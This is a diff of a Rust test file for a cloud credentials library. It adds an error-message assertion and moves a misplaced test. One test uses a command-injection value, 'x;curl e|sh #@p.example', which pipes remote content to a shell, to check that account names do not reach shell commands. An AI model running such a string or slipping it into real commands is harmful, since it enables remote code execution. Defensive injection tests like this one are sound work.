@@ -103,6 +103,8 @@ async fn a_pem_and_an_address_are_enough() {
     }
     let (header, _) = claims(&emulator.requests()[0]);
     assert_eq!(header, json!({"alg": "RS256", "typ": "JWT"}));
+    let error = Credentials::from_pem("no key", ROBOT, &options).unwrap_err();
+    assert!(!error.to_string().contains("the field"), "{error}");
     let error = Credentials::from_pem(account.pkcs8_pem(), " ", &options).unwrap_err();
     assert!(error.to_string().contains("address"));
 }
@@ -251,8 +253,6 @@ async fn a_refusal_names_the_account_and_the_key_and_says_what_to_do() {
 }
 
 #[tokio::test]
-async fn a_server_in_trouble_is_no_refusal() {
-#[tokio::test]
 async fn a_name_that_a_shell_would_run_does_not_get_into_a_command() {
     let (emulator, account, options) = emulator().await;
     let name = "x;curl e|sh #@p.example";
@@ -278,6 +278,8 @@ async fn a_name_that_a_shell_would_run_does_not_get_into_a_command() {
     }
 }
 
+#[tokio::test]
+async fn a_server_in_trouble_is_no_refusal() {
     let (emulator, account, options) = emulator().await;
     emulator.fault("oauth2.googleapis.com", Fault::status(503).times(10));
     let credentials = Credentials::from_json(&account.json_key(), &options).unwrap();
